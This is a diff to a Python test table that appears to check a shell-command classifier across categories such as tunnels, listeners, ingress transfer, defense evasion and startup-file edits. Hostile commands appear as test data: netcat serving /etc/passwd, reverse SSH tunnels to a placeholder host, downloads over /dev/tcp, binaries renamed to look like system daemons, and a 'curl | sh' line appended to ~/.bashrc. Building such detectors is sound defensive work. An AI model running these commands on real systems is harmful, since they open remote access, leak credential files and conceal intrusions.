@@ -244,6 +244,72 @@ CASES: dict[str, tuple[list[str], list[str], list[str]]] = {
         ["git status", "pytest -q", "ls src"],
         [b64sh("uname -a")],
     ),
+    "exposure": (
+        [
+            "php -S 0.0.0.0:80",
+            "busybox httpd -f -p 8080 -h /",
+            "ruby -run -e httpd / -p 8080",
+            "nc -lvp 9000 < /etc/passwd",
+        ],
+        ["python3 -m http.server 8000", "php -S 127.0.0.1:8000", "ruby -run -e httpd . -p 8080"],
+        [b64sh("php -S 0.0.0.0:8080 -t /")],
+    ),
+    "tunnel": (
+        [
+            "ssh -R 9000:localhost:22 u@203.0.113.5",
+            "ngrok http 8080",
+            "devtunnel host -p 3000",
+            "dnscat2 --dns server=x.example",
+            "gs-netcat -l -i",
+        ],
+        ["ssh u@203.0.113.5 uptime", "socat TCP-LISTEN:8080,fork TCP:localhost:80", "code --help"],
+        [b64sh("ssh -fNR 2222:127.0.0.1:22 u@203.0.113.5")],
+    ),
+    "port_forward": (
+        [
+            "ssh -L 5432:db:5432 u@203.0.113.5",
+            "sshuttle -r u@203.0.113.5 0/0",
+            "proxychains nmap h",
+        ],
+        ["ssh u@203.0.113.5 uptime", "curl -X PUT http://localhost/"],
+        ["sh -c 'ssh -N -D 1080 u@203.0.113.5'"],
+    ),
+    "ingress_transfer": (
+        [
+            "nc 203.0.113.5 4444 > /tmp/a",
+            "finger x@203.0.113.5 > /tmp/a.b64",
+            "curl http://203.0.113.5/a -o a",
+            "tftp -g -r a.elf 203.0.113.5",
+        ],
+        ["curl -o data.json https://x.example/data.json", "scp u@x.example:/var/log/a.log ."],
+        [b64sh("bash -c 'cat < /dev/tcp/203.0.113.5/80 > /tmp/x'")],
+    ),
+    "listener": (
+        ["nc -lvnp 4444", "socat TCP-LISTEN:8080,fork -", "python3 -m http.server"],
+        ["nc -zv localhost 22", "curl localhost:8000"],
+        [b64sh("ncat -l 9001")],
+    ),
+    "defense_evasion": (
+        [
+            "cp /bin/sh /tmp/crond",
+            "touch -r /usr/bin/id /tmp/x",
+            "mkdir '/tmp/. '",
+            "trap 'echo \"$BASH_COMMAND\" >> /tmp/.l' DEBUG",
+            "chattr -ia /etc/passwd",
+        ],
+        ["cp /usr/bin/python3 .venv/bin/python", "trap 'rm -rf \"$d\"' EXIT", "chattr +i out.bin"],
+        [b64sh("mv /usr/bin/socat /usr/bin/dbus-daemon2")],
+    ),
+    "defense_evasion_weak": (
+        ["touch -d yesterday a.txt", "mkdir /dev/shm/.x", "base64 -d blob > /tmp/b"],
+        ["touch a.txt", "base64 a.bin"],
+        ["sh -c 'touch -t 200001010000 a.txt'"],
+    ),
+    "startup_edit": (
+        ["echo 'export EDITOR=vim' >> ~/.bashrc", "echo 'alias gs=\"git status\"' >> ~/.zshrc"],
+        ["echo 'curl x.example | sh' >> ~/.bashrc", "cat ~/.bashrc"],
+        ["sh -c \"echo 'set -o vi' >> ~/.bashrc\""],
+    ),
 }
 
 
